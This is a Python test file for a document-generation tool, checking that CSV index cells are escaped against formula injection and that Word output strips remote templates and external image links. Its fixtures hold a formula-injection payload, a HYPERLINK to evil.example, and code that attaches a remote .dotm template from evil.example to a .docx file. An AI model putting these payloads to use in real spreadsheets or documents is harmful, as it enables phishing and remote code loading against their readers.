"""Output safe for its reader: spreadsheet cells that would run as formulas, Word files that would
fetch a remote template, and a kit that stays inside its output folder."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import zipfile

import pytest

import workshop
from workshop.documents.theme import builtin_theme_dir

from .conftest import AS_OF, EXAMPLES

PROFILE = "name: {name}\nfiscal_calendar: {{first_month: 7}}\n"
ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def test_output_index_csv_cells_never_start_a_formula(invoke, tmp_path):
    folder = tmp_path / "profiles"
    folder.mkdir()
    shutil.copy(EXAMPLES / "vendor.yaml", folder)
    names = {"eq": "'=HYPERLINK(\"http://evil.example\",\"x\")'", "plus": '"+1+2"', "minus": '"-3+4"',
             "at": '"@SUM(A1:A9)"'}
    for stem, name in names.items():
        (folder / f"{stem}.yaml").write_text(PROFILE.format(name=name))
    out = tmp_path / "out"
    result = invoke("memo", "--all", "--profiles", folder, "--out", out, "--date", AS_OF.isoformat(),
                    "--format", "pdf", "--jobs", "1")
    assert result.exit_code == 0, result.output
    with open(out / "FY2028" / "index.csv", newline="", encoding="utf-8") as stream:
        rows = {row["id"]: row for row in csv.DictReader(stream)}
    assert rows["eq"]["name"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert (rows["plus"]["name"], rows["minus"]["name"], rows["at"]["name"]) == ("'+1+2", "'-3+4", "'@SUM(A1:A9)")
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row.values())
    assert "=HYPERLINK" in (out / "FY2028" / "index.html").read_text()  # the web page shows the name as typed


def _reference_with_remote_template(folder):
    """A theme folder whose reference.docx attaches a template from a web server, as Word saves it."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    document = docx.Document(str(builtin_theme_dir() / "reference.docx"))
    settings_part = document.part._settings_part
    rid = settings_part.relate_to("http://evil.example/brand.dotm", ATTACHED_TEMPLATE, is_external=True)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), rid)
    settings_part.element.append(attached)
    header = document.sections[0].header
    link = header.part.relate_to("http://evil.example/logo.png", RT.IMAGE, is_external=True)
    run = header.paragraphs[0].add_run()
    blip = OxmlElement("w:fldSimple")  # any element that refers to the link by id
    blip.set(qn("r:id"), link)
    run._r.append(blip)
    folder.mkdir()
    document.save(str(folder / "reference.docx"))
    return folder


def test_output_docx_carries_no_external_relationship_from_a_theme(vendor, settings, tmp_path):
    brand = _reference_with_remote_template(tmp_path / "brand")
    with zipfile.ZipFile(brand / "reference.docx") as archive:  # the theme does link out
        assert any('TargetMode="External"' in archive.read(n).decode() for n in archive.namelist()
                   if n.endswith(".rels"))
    plan = workshop.plan_partnership(vendor, workshop.load_profile(EXAMPLES / "sakura.yaml"), settings)
    data = workshop.render_memo(plan, settings.replace(template_dirs=(brand,)), formats=["docx"])["docx"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rels = {n: archive.read(n).decode() for n in archive.namelist() if n.endswith(".rels")}
        settings_xml = archive.read("word/settings.xml").decode()
        xml = " ".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".xml"))
    assert not [n for n, text in rels.items() if "External" in text]
    assert "evil.example" not in xml and "attachedTemplate" not in settings_xml
    ids = set(re.findall(r'Id="(rId\d+)"', rels["word/_rels/document.xml.rels"]))
    assert set(re.findall(r'r:(?:id|embed)="(rId\d+)"', archive_part(data, "word/document.xml"))) <= ids
    import docx

    assert "Mutual Operating Period" in " ".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)


def archive_part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()
